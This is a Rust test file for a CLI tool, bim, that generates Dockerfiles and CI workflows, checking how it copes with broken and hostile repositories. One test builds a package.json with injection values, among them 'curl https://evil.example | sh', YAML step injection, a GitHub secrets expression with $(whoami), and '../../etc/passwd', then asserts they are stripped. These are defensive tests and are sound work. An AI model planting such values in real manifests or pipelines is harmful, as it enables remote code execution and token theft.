//! Hostile and broken repositories: every case must end without a panic, with a message
//! naming the file and what to do, a documented exit code, and the tree exactly as it was.
//! The corpus is built here, in code, because much of it cannot live in git (a 100 MB
//! file, names that are not UTF-8, symlink loops, unreadable files).

use std::collections::BTreeMap;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::harness::Test;
use crate::tools;

const APP: &str = r#"{"name":"app","scripts":{"start":"node server.js"},"dependencies":{"express":"4"}}"#;
const SERVER: &str = "require('express')().listen(process.env.PORT || 3000);\n";

/// Every entry under `root`: its kind, permissions and (for files) contents or size.
fn state(root: &Path) -> BTreeMap<PathBuf, String> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            let path = entry.path();
            let meta = std::fs::symlink_metadata(&path).expect("lstat");
            let mode = meta.permissions().mode();
            let what = if meta.file_type().is_symlink() {
                format!("link {mode:o} -> {:?}", std::fs::read_link(&path).ok())
            } else if meta.is_dir() {
                stack.push(path.clone());
                format!("dir {mode:o}")
            } else if meta.len() > 1 << 20 {
                format!("file {mode:o} {} bytes", meta.len())
            } else {
                format!("file {mode:o} {:?}", std::fs::read(&path).unwrap_or_default())
            };
            out.insert(path, what);
        }
    }
    out
}

/// Runs `bim init --yes` in `test`'s folder and checks the exit code, that stderr says
/// `needle`, and that nothing changed.
fn init_fails(test: Test, code: i32, needle: &str) -> crate::harness::Run {
    let before = state(test.path());
    let run = test.args(&["init", "--yes"]).run().code(code).stderr_has(needle);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    assert_eq!(state(run.dir.path()), before, "the tree changed");
    run
}

#[test]
fn broken_and_empty_manifests_are_named_with_exit_4() {
    for (file, body, says) in [
        ("package.json", "", "package.json is broken: invalid JSON"),
        ("package.json", "{\"name\": ", "package.json is broken: invalid JSON"),
        ("package.json", "[1, 2]", "expected a JSON object"),
        ("pyproject.toml", "[project\nname = 1", "pyproject.toml is broken: invalid TOML at line 1"),
        ("Cargo.toml", "= nope", "Cargo.toml is broken"),
        ("pom.xml", "", "pom.xml is broken: invalid XML"),
        ("composer.json", "[1,", "composer.json is broken"),
        ("deno.json", "{,}", "deno.json is broken"),
        ("deno.jsonc", "", "deno.jsonc is broken"),
        ("Api.csproj", "<Project Sdk=", "Api.csproj is broken: invalid XML"),
        ("Pipfile", "[[source]\n", "Pipfile is broken"),
        ("mise.toml", "[tools\n", "mise.toml is broken"),
    ] {
        let mut test = Test::new().file(file, body);
        if file == "mise.toml" {
            test = test.file("package.json", APP).file("server.js", SERVER);
        }
        let run = init_fails(test, 4, says);
        assert!(run.stderr.contains("hint: fix"), "{file}: {}", run.stderr);
    }
}

/// Editors on Windows save UTF-8 with a byte order mark; the manifest is still good.
#[test]
fn manifests_that_start_with_a_byte_order_mark_are_read() {
    let run = Test::new()
        .file("package.json", &format!("\u{feff}{APP}"))
        .file("server.js", SERVER)
        .args(&["detect", "--json"])
        .run()
        .code(0);
    let service = &run.json()["services"][0];
    assert_eq!(service["language"], "node", "{service}");
    assert_eq!(service["framework"], "express", "{service}");
    assert_eq!(service["start_command"], "node server.js", "{service}");

    let fixture = crate::harness::fixtures_dir().join("rust-axum/Cargo.toml");
    let cargo = std::fs::read_to_string(fixture).expect("fixture");
    let run = Test::fixture("rust-axum")
        .file("Cargo.toml", &format!("\u{feff}{cargo}"))
        .args(&["detect", "--json"])
        .run()
        .code(0);
    assert_eq!(run.json()["services"][0]["framework"], "axum", "{}", run.stdout);
}

#[test]
fn invalid_yaml_is_not_read_as_a_manifest_and_breaks_nothing() {
    let run = Test::new()
        .file("package.json", APP)
        .file("server.js", SERVER)
        .file("pnpm-workspace.yaml", "packages: [unclosed\n  - : :\n")
        .file("compose.yaml", "services:\n  app:\n    environment:\n      - : [\n\t- BAD\n")
        .args(&["init", "--yes"])
        .run()
        .code(0);
    assert!(run.exists("Dockerfile"));
}

#[test]
fn huge_and_binary_files() {
    // A 100 MB file beside the app is never read whole.
    let test = Test::new().file("package.json", APP).file("server.js", SERVER);
    let big = std::fs::File::create(test.path().join("dump.sql")).expect("create");
    big.set_len(100 << 20).expect("100 MB");
    let started = std::time::Instant::now();
    test.args(&["detect"]).run().code(0);
    assert!(started.elapsed().as_secs() < 10);

    // A manifest over the cap is a limit, not a broken file: never exit 4. Unread, it
    // leaves nothing to detect here, and the reason names it.
    let test = Test::new().file("server.js", SERVER);
    std::fs::File::create(test.path().join("package.json"))
        .expect("create")
        .set_len(500 << 20)
        .expect("500 MB");
    let started = std::time::Instant::now();
    init_fails(test, 3, "package.json is larger than 64 MiB, so bim did not read it");
    assert!(started.elapsed().as_secs() < 10);

    // A lockfile over the cap beside a good manifest: detection goes on and warns.
    let test = Test::new().file("package.json", APP).file("server.js", SERVER);
    std::fs::File::create(test.path().join("package-lock.json"))
        .expect("create")
        .set_len(500 << 20)
        .expect("500 MB");
    let started = std::time::Instant::now();
    let run = test.args(&["detect"]).run();
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(started.elapsed().as_secs() < 10);
    assert!(
        run.stdout.contains("package-lock.json is larger than 64 MiB")
            || run.stderr.contains("package-lock.json is larger than 64 MiB"),
        "the warning names the file: {}{}",
        run.stdout,
        run.stderr
    );

    init_fails(Test::new().file("package.json", "{\"name\":\0\"x\"}"), 4, "binary file");
    let run = Test::new()
        .file("requirements.txt", "flask\n")
        .file("app.py", "\0\0\0binary")
        .args(&["detect"])
        .run();
    assert!(matches!(run.code, 0 | 3), "{}", run.stderr);
}

#[test]
fn names_and_contents_that_are_not_utf8() {
    let test = Test::new().file("package.json", APP).file("server.js", SERVER);
    let name = std::ffi::OsStr::from_bytes(b"caf\xe9.js");
    std::fs::write(test.path().join(name), b"process.env.FROM_LATIN1_FILE; \xff\xfe").expect("write");
    std::fs::write(test.path().join("notes.js"), b"const x = '\xff'; process.env.AFTER_BAD_BYTE;")
        .expect("write");
    let run = test.args(&["init", "--yes", "--json"]).run().code(0);
    let vars = run.json()["answers"]["service"][0]["env_vars"].clone();
    assert!(vars.get("AFTER_BAD_BYTE").is_some(), "{vars}");
    assert!(vars.get("FROM_LATIN1_FILE").is_some(), "{vars}");
    let root = run.dir.path().display().to_string();
    Test::new().args(&["check", &root]).run().code(0);

    let test = Test::new().file("server.js", SERVER);
    std::fs::write(test.path().join("package.json"), b"{\"name\": \"\xff\"}").expect("write");
    init_fails(test, 4, "not valid UTF-8");
}

#[test]
fn symlink_loops_and_links_outside_the_repository_are_not_followed() {
    let outside = tempfile::tempdir().expect("outside");
    std::fs::write(
        outside.path().join("package.json"),
        r#"{"name":"outside","scripts":{"start":"node x.js"}}"#,
    )
    .expect("write");
    std::fs::write(outside.path().join("x.js"), "process.env.OUTSIDE_SECRET").expect("write");
    let test = Test::new().file("package.json", APP).file("server.js", SERVER);
    std::os::unix::fs::symlink("b", test.path().join("a")).expect("link");
    std::os::unix::fs::symlink("a", test.path().join("b")).expect("link");
    std::os::unix::fs::symlink(test.path(), test.path().join("self")).expect("link");
    std::os::unix::fs::symlink(outside.path(), test.path().join("elsewhere")).expect("link");
    let run = test.args(&["detect", "--json"]).run().code(0);
    assert_eq!(run.json()["services"].as_array().map(Vec::len), Some(1));
    assert!(!run.stdout.contains("OUTSIDE_SECRET"));
}

#[test]
fn a_path_that_is_a_file() {
    let run = Test::new().file("afile", "x").args(&["init", "--yes", "afile"]).run().code(2);
    assert!(run.stderr.contains("afile is not a folder"), "{}", run.stderr);
}

/// Runs bim as an unprivileged user, so permissions bite even when the tests run as root.
fn as_nobody(root: &Path, args: &[&str]) -> std::process::Output {
    let mut command = if nix_is_root() {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"]).arg(env!("CARGO_BIN_EXE_bim"));
        c
    } else {
        Command::new(env!("CARGO_BIN_EXE_bim"))
    };
    command.args(args).current_dir(root).output().expect("run bim")
}

fn nix_is_root() -> bool {
    Command::new("id")
        .arg("-u")
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim() == "0")
        .unwrap_or(false)
}

/// A folder every user can reach, for the unprivileged runs.
fn open_tempdir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("dir");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    dir
}

fn chown_nobody(path: &Path) {
    if nix_is_root() {
        let status = Command::new("chown").arg("-R").arg("65534:65534").arg(path).status().expect("chown");
        assert!(status.success());
    }
}

#[test]
fn unreadable_files_and_folders() {
    let dir = open_tempdir();
    let root = dir.path().join("repo");
    std::fs::create_dir(&root).expect("mkdir");
    std::fs::write(root.join("package.json"), APP).expect("write");
    std::fs::write(root.join("server.js"), SERVER).expect("write");
    std::fs::create_dir(root.join("private")).expect("mkdir");
    std::fs::write(root.join("private/keys.js"), "process.env.HIDDEN").expect("write");
    chown_nobody(&root);
    std::fs::set_permissions(root.join("private"), std::fs::Permissions::from_mode(0o000)).expect("chmod");
    let out = as_nobody(&root, &["detect", "--json"]);
    assert!(
        out.status.success(),
        "an unreadable folder is skipped: {}",
        String::from_utf8_lossy(&out.stderr)
    );

    std::fs::set_permissions(root.join("package.json"), std::fs::Permissions::from_mode(0o000))
        .expect("chmod");
    let before = state(&root);
    let out = as_nobody(&root, &["init", "--yes"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("cannot read") && stderr.contains("package.json") && stderr.contains("permissions"),
        "{stderr}"
    );
    assert_eq!(state(&root), before);
    std::fs::set_permissions(root.join("private"), std::fs::Permissions::from_mode(0o755))
        .expect("chmod back");
}

#[test]
fn a_read_only_repository_and_a_write_that_fails_midway_leave_the_tree_as_it_was() {
    // Read-only: the repository belongs to root; bim runs as nobody.
    let dir = open_tempdir();
    let root = dir.path().join("repo");
    std::fs::create_dir(&root).expect("mkdir");
    std::fs::write(root.join("package.json"), APP).expect("write");
    std::fs::write(root.join("server.js"), SERVER).expect("write");
    if nix_is_root() {
        let before = state(&root);
        let out = as_nobody(&root, &["init", "--yes"]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{stderr}");
        assert!(stderr.contains("cannot read") || stderr.contains("Permission denied"), "{stderr}");
        assert_eq!(state(&root), before, "read-only: nothing changed");
    }

    // Midway: bim may write the top of the repository but not .github/.
    let dir = open_tempdir();
    let root = dir.path().join("repo");
    std::fs::create_dir_all(root.join(".github")).expect("mkdir");
    std::fs::write(root.join("package.json"), APP).expect("write");
    std::fs::write(root.join("server.js"), SERVER).expect("write");
    std::fs::write(root.join("README.md"), "# Mine\n").expect("write");
    chown_nobody(&root);
    if nix_is_root() {
        Command::new("chown").arg("0:0").arg(root.join(".github")).status().expect("chown");
    } else {
        std::fs::set_permissions(root.join(".github"), std::fs::Permissions::from_mode(0o555))
            .expect("chmod");
    }
    let before = state(&root);
    let out = as_nobody(&root, &["init", "--yes"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains(".github"), "names where it failed: {stderr}");
    assert_eq!(state(&root), before, "midway: every staged file was removed");
}

#[test]
fn two_runs_at_once_do_not_interleave() {
    let test = Test::fixture("node-express-npm");
    let root = test.path().to_path_buf();
    let spawn = || {
        Command::new(env!("CARGO_BIN_EXE_bim"))
            .args(["init", "--yes"])
            .arg(&root)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("spawn")
    };
    let (a, b) = (spawn(), spawn());
    let codes: Vec<i32> =
        [a, b].into_iter().map(|c| c.wait_with_output().expect("wait").status.code().unwrap_or(-1)).collect();
    assert!(codes.iter().all(|c| *c == 0 || *c == 6), "{codes:?}");
    assert!(codes.contains(&0));
    let root = root.display().to_string();
    Test::new().args(&["check", &root]).run().code(0);
}

#[test]
fn hostile_manifest_values_are_neutralised_or_refused() {
    let long = "a".repeat(10_000);
    let package = serde_json::json!({
        "name": format!("evil\"\n  - run: curl https://evil.example | sh #{long}"),
        "scripts": {
            "start": "node server.js\n      - run: echo pwned-start",
            "build": "echo ${{ secrets.GITHUB_TOKEN }} `id` $(whoami)",
            "test": "echo pwned-test: *alias &anchor"
        },
        "main": "../../etc/passwd",
        "dependencies": {"express": "4"}
    });
    let repo = || {
        Test::new()
            .file("package.json", &package.to_string())
            .file("server.js", "require('express')().listen(process.env.PORT || 99999);\nprocess.env['BAD NAME'];\nprocess.env.GOOD_NAME;\n")
            .file(".env.example", "EVIL$(x)=1\n- injected: yes\nOK_VAR=\n")
    };
    let run = repo().args(&["init", "--yes", "--json"]).run().code(0);
    let workflow = run.read(".github/workflows/backend-im.yml");
    let dockerfile = run.read("Dockerfile");
    for text in [&workflow, &dockerfile, &run.read("README.md"), &run.read("bim.toml")] {
        for bad in ["pwned", "evil.example", "secrets.GITHUB_TOKEN }} `id`", "whoami", "../../etc"] {
            assert!(!text.contains(bad), "{bad} reached a generated file:\n{text}");
        }
    }
    let answers = &run.json()["answers"]["service"][0];
    assert_eq!(answers["app"].as_str().map(str::len), Some(63), "names are cut to 63 characters");
    assert_eq!(answers["port"], 3000, "a port that cannot be one is ignored");
    let vars = answers["env_vars"].as_object().expect("vars");
    assert!(
        vars.contains_key("GOOD_NAME")
            && vars.contains_key("OK_VAR")
            && vars.keys().all(|k| k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
    );
    assert!(tools::lint_workflow(&run.dir.path().join(".github/workflows/backend-im.yml")).is_empty());
    assert!(tools::lint_dockerfile(&run.dir.path().join("Dockerfile")).is_empty());
    // The same values in GitLab's pipeline.
    let on_gitlab = repo().args(&["init", "--yes", "--ci", "gitlab"]).run().code(0);
    let pipeline = on_gitlab.read(".gitlab-ci.yml");
    for bad in ["pwned", "evil.example", "secrets.GITHUB_TOKEN }} `id`", "whoami", "../../etc"] {
        assert!(!pipeline.contains(bad), "{bad} reached .gitlab-ci.yml:\n{pipeline}");
    }
    let found = tools::lint_gitlab_ci(&[on_gitlab.dir.path().join(".gitlab-ci.yml")]);
    assert!(found.is_empty(), "{found}");
}

#[test]
fn a_procfile_command_with_shell_in_it_runs_in_a_shell_and_an_expression_is_refused() {
    let run = Test::new()
        .file("requirements.txt", "flask\ngunicorn\n")
        .file("app.py", "from flask import Flask\napp = Flask(__name__)\n")
        .file("Procfile", "web: gunicorn app:app --bind 0.0.0.0:$PORT --log-level \"$(echo info)\" `true`\n")
        .args(&["init", "--yes"])
        .run()
        .code(0);
    let dockerfile = run.read("Dockerfile");
    assert!(
        dockerfile.contains(
            r#"CMD ["sh","-c","gunicorn app:app --bind 0.0.0.0:$PORT --log-level \"$(echo info)\" `true`"]"#
        ),
        "{dockerfile}"
    );
    assert!(tools::lint_dockerfile(&run.dir.path().join("Dockerfile")).is_empty());
    assert!(!run.read(".github/workflows/backend-im.yml").contains("echo info"));

    let refused = init_fails(
        Test::new()
            .file("requirements.txt", "flask\n")
            .file("app.py", "")
            .file("Procfile", "web: gunicorn app:app ${{ secrets.GITHUB_TOKEN }}\n"),
        2,
        "start command",
    );
    assert!(refused.stderr.contains("GitHub Actions expression"), "{}", refused.stderr);
}

#[test]
fn folder_names_that_cannot_be_made_safe_are_refused_by_name() {
    let test = Test::new()
        .file("package.json", r#"{"name":"root","private":true,"workspaces":["apps/*"]}"#)
        .file("apps/-x: *y #z/package.json", APP)
        .file("apps/-x: *y #z/server.js", SERVER);
    let run = init_fails(test, 2, "service path");
    assert!(run.stderr.contains("-x: *y #z"), "{}", run.stderr);
}

#[test]
fn values_from_dotenv_files_and_the_environment_never_reach_output_or_files() {
    let run = Test::fixture("env-example-and-compose")
        .env("SMTP_PASSWORD", "env-secret-value")
        .env("BACKEND_IM_API_TOKEN", "token-secret-value")
        .args(&["init", "--yes", "--json"])
        .run()
        .code(0);
    let mut everything = run.stdout.clone() + &run.stderr;
    for (path, text) in crate::init::generated_files(run.dir.path(), "env-example-and-compose") {
        if path != ".env" {
            everything.push_str(&text);
        }
    }
    for secret in [
        "hunter2-real-secret",
        "do-not-read",
        "LEAKED_ONLY_IN_DOTENV",
        "env-secret-value",
        "token-secret-value",
    ] {
        assert!(!everything.contains(secret), "{secret} leaked");
    }
}

#[test]
fn a_workspace_folder_with_a_space_is_copied_as_one_path() {
    let run = Test::new()
        .file("package.json", r#"{"name":"ws","private":true,"workspaces":["apps/*","packages/*"]}"#)
        .file("package-lock.json", r#"{"lockfileVersion":3}"#)
        .file(
            "apps/web/package.json",
            r#"{"name":"web","scripts":{"start":"node index.js"},"dependencies":{"express":"4"}}"#,
        )
        .file("apps/web/index.js", "require('express')().listen(3000);\n")
        .file("packages/my lib/package.json", r#"{"name":"my-lib"}"#)
        .args(&["init", "--yes"])
        .run()
        .code(0);
    let dockerfile = run.read("apps/web/Dockerfile");
    assert!(
        dockerfile.contains(r#"COPY ["packages/my lib/package.json","packages/my lib/"]"#),
        "the path must stay one argument:\n{dockerfile}"
    );
    assert!(dockerfile.contains("COPY apps/web/package.json apps/web/"), "plain paths keep the plain form");
    assert!(tools::lint_dockerfile(&run.dir.path().join("apps/web/Dockerfile")).is_empty());
}

#[test]
fn a_workflow_too_large_for_github_becomes_one_per_service() {
    let mut test = Test::new()
        .file("package.json", r#"{"name":"root","private":true,"workspaces":["apps/*"]}"#)
        .file("package-lock.json", r#"{"lockfileVersion":3}"#);
    for i in 0..100 {
        test = test
            .file(&format!("apps/s{i}/package.json"), &format!(r#"{{"name":"s{i}","scripts":{{"start":"node index.js"}},"dependencies":{{"express":"4"}}}}"#))
            .file(&format!("apps/s{i}/index.js"), SERVER);
    }
    let run = test.args(&["init", "--yes", "--color", "never"]).run().code(0);
    assert!(run.stdout.contains("more than GitHub runs"), "{}", run.stdout);
    assert!(!run.exists(".github/workflows/backend-im.yml"), "no single workflow GitHub would refuse");
    let dir = run.dir.path().join(".github/workflows");
    let workflows: Vec<PathBuf> =
        std::fs::read_dir(&dir).expect("workflows").map(|e| e.expect("entry").path()).collect();
    assert_eq!(workflows.len(), 100);
    for workflow in &workflows {
        let size = std::fs::metadata(workflow).expect("size").len();
        assert!(size < 500_000, "{}: {size}", workflow.display());
    }
    let one = dir.join("backend-im-s7.yml");
    assert!(std::fs::read_to_string(&one).expect("read").contains("name: Deploy s7\n"));
    assert!(tools::lint_workflow(&one).is_empty(), "{:?}", tools::lint_workflow(&one));
    assert!(run.read("README.md").contains("backend-im-<app>.yml"));
    let root = run.dir.path().display().to_string();
    Test::new().args(&["check", &root]).run().code(0);
}

#[test]
fn a_lockfile_of_a_few_megabytes_is_read_not_refused() {
    // Large monorepos' lockfiles run past 1 MiB (the regression corpus holds a 1.4 MB one).
    let mut packages = serde_json::Map::new();
    packages.insert("".into(), serde_json::json!({"name": "app", "dependencies": {"express": "4"}}));
    packages.insert("node_modules/express".into(), serde_json::json!({"version": "4.21.0"}));
    for i in 0..25_000 {
        let name = format!("node_modules/transitive-package-number-{i}");
        packages.insert(name, serde_json::json!({"version": "1.0.0", "resolved": "https://registry.npmjs.org/x/-/x-1.0.0.tgz", "integrity": "sha512-0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000"}));
    }
    let lock =
        serde_json::json!({"name": "app", "lockfileVersion": 3, "requires": true, "packages": packages})
            .to_string();
    assert!(lock.len() > 5 << 20, "the lockfile is {} bytes", lock.len());
    let run = Test::new()
        .file("package.json", APP)
        .file("server.js", SERVER)
        .file("package-lock.json", &lock)
        .args(&["init", "--yes", "--json"])
        .run()
        .code(0);
    assert_eq!(run.json()["answers"]["service"][0]["package_manager"], "npm");
    // Read whole, not skipped: what it fails to lock is still found.
    let asks_more = r#"{"name":"app","scripts":{"start":"node server.js"},"dependencies":{"express":"4","left-pad":"1"}}"#;
    Test::new()
        .file("package.json", asks_more)
        .file("server.js", SERVER)
        .file("package-lock.json", &lock)
        .args(&["init", "--yes"])
        .run()
        .code(3)
        .stderr_has("does not lock left-pad");
}
